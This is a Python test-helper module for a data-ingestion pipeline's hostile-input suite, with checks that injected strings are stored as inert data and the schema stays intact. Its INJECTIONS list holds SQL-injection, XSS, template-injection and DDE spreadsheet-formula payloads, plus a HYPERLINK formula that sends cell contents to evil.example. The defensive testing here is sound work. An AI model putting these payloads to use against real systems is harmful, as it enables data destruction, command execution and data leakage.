"""What the hostile-input corpus and the fault suite share: pilots of their own (copies of the
registry's pilots under new ids, so other tests' data stay as they are), one batch run in-process
through the same steps as the ingestion DAG's tasks (osservatorio.pipeline), and the warehouse
queries that check nothing was lost, duplicated or changed.

Every case states its expected outcome: the rules that quarantine records, or the words a batch
refusal must contain (pilot, file or page, line, rule). `check_accounted` asserts the invariants
every case shares: no bare crash (only a recorded refusal or a landing), nothing of a refused
batch loaded, received = loaded + unchanged + quarantined, and every injected string stored as
data (compared byte for byte).
"""

from __future__ import annotations

import dataclasses
import json
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

from osservatorio.channels import CsvDropChannel, RestApiChannel, XlsxDropChannel
from osservatorio.land.warehouse import RECORD_TYPES
from osservatorio.manifest import RunInterval
from osservatorio.pipeline import BatchOutcome, ingest_batch
from osservatorio.registry import load_registry

if TYPE_CHECKING:
    from pathlib import Path

    import psycopg

    from osservatorio.channels import Channel
    from osservatorio.registry import Pilot

SECRET = "hostile-suite-local-pseudonymisation-key"
# SQL, HTML and spreadsheet-formula strings: stored as data, never run anywhere.
INJECTIONS = (
    "'); DROP TABLE raw.batches; --",
    "Robert'); DELETE FROM raw.quarantine WHERE ('1'='1",
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "{{7*7}} ${7*7} %s %n",
)


def pilot_copy(original: str, pilot_id: str, **changes: Any) -> Pilot:
    """A registry pilot under a new id (and connection), with `changes` to its fields."""
    pilot = load_registry()[original]
    return dataclasses.replace(pilot, pilot_id=pilot_id, connection_id=f"pilot_{pilot_id}", **changes)


def interval(day: str) -> RunInterval:
    """The daily data interval that ends on `day` (YYYY-MM-DD)."""
    end = datetime.fromisoformat(day).replace(tzinfo=UTC)
    return RunInterval(end - timedelta(days=1), end)


def file_channel(pilot: Pilot, inbox: Path) -> Channel:
    return (CsvDropChannel if pilot.channel == "csv_drop" else XlsxDropChannel)(pilot, inbox=inbox)


def rest_channel(pilot: Pilot, base_url: str, token: str) -> Channel:
    return RestApiChannel(pilot, base_url=base_url, token=token)


def run_batch(
    conn: psycopg.Connection, pilot: Pilot, entity: str, day: str, channel: Channel
) -> BatchOutcome:
    """One batch through extract -> validate -> land, as the DAG's tasks run it."""
    return ingest_batch(pilot, entity, interval(day), channel, conn, SECRET)


@dataclass
class Landed:
    """What the warehouse holds of one batch after a run (current rows only)."""

    records: dict[str, dict[str, Any]]  # source_record_id -> record (jsonb)
    quarantine: list[tuple[str, list[str], str, dict[str, Any]]]  # (source, rules, reason, payload)
    ledger: tuple[int, int, int, int] | None  # received, loaded, unchanged, quarantined
    refusals: list[tuple[str, str, int | None, int | None]] = field(
        default_factory=list
    )  # stage, reason, ...


def landed(conn: psycopg.Connection, batch_id: str, entity: str) -> Landed:
    records = {
        rid: record
        for rid, record in conn.execute(
            f"SELECT source_record_id, record FROM raw.{entity}"
            " WHERE batch_id = %s AND superseded_at IS NULL",
            (batch_id,),
        )
    }
    quarantine = [
        (source, rules, reason, payload)
        for source, rules, reason, payload in conn.execute(
            "SELECT source_location, failed_rules, reason, payload FROM raw.quarantine"
            " WHERE batch_id = %s AND superseded_at IS NULL ORDER BY quarantine_id",
            (batch_id,),
        )
    ]
    ledger = conn.execute(
        "SELECT received, loaded, unchanged, quarantined FROM raw.batches"
        " WHERE batch_id = %s AND superseded_at IS NULL",
        (batch_id,),
    ).fetchone()
    refusals = conn.execute(
        "SELECT stage, reason, received, invalid FROM raw.batch_refusals"
        " WHERE batch_id = %s ORDER BY refusal_id",
        (batch_id,),
    ).fetchall()
    return Landed(records, quarantine, ledger, refusals)


def check_accounted(conn: psycopg.Connection, outcome: BatchOutcome) -> Landed:
    """The invariants of every case (see the module doc); returns what landed."""
    batch = outcome.batch
    state = landed(conn, batch.batch_id, batch.entity)
    if outcome.refused:
        assert outcome.refusal is not None
        assert f"pilot {batch.pilot_id}" in outcome.refusal, outcome.refusal
        assert "Traceback" not in outcome.refusal
        assert state.refusals, "a refused batch must leave its refusal in raw.batch_refusals"
        # (cases run fresh batches: a refused rerun would keep its earlier landing current)
        assert state.ledger is None, "refused, yet landed"
        assert not state.records
        assert not state.quarantine
    else:
        landed_batch = outcome.landed
        assert landed_batch is not None
        assert state.ledger is not None
        received, loaded, unchanged, quarantined = state.ledger
        assert received == loaded + unchanged + quarantined
        assert (received, loaded, quarantined) == (
            landed_batch.received,
            landed_batch.loaded,
            landed_batch.quarantined,
        )
        assert len(state.records) == loaded
        assert len(state.quarantine) == quarantined
    return state


def stored_strings(state: Landed) -> set[str]:
    """Every string value stored for the batch, in records and quarantine payloads."""
    found: set[str] = set()

    def walk(value: Any) -> None:
        if isinstance(value, str):
            found.add(value)
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    for record in state.records.values():
        walk(record)
    for _, _, _, payload in state.quarantine:
        walk(payload)
    return found


def schema_intact(conn: psycopg.Connection) -> None:
    """Injected SQL ran nowhere: every raw table is still there."""
    tables = {
        row[0]
        for row in conn.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = 'raw'")
    }
    assert {*RECORD_TYPES, "batches", "quarantine", "files", "batch_refusals"} <= tables


def forget(conn: psycopg.Connection, pilot_ids: list[str]) -> None:
    """Remove the suite's pilots' rows (raw is append-only for the pipeline, not for tests)."""
    with conn.transaction():
        conn.execute(
            "DELETE FROM raw.refused_records WHERE refusal_id IN"
            " (SELECT refusal_id FROM raw.batch_refusals WHERE pilot_id = ANY(%s))",
            (pilot_ids,),
        )
        for table in (
            *RECORD_TYPES,
            "quarantine",
            "validation_results",
            "batches",
            "files",
            "batch_refusals",
        ):
            conn.execute(f"DELETE FROM raw.{table} WHERE pilot_id = ANY(%s)", (pilot_ids,))


def dumps(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False, sort_keys=True, default=str)
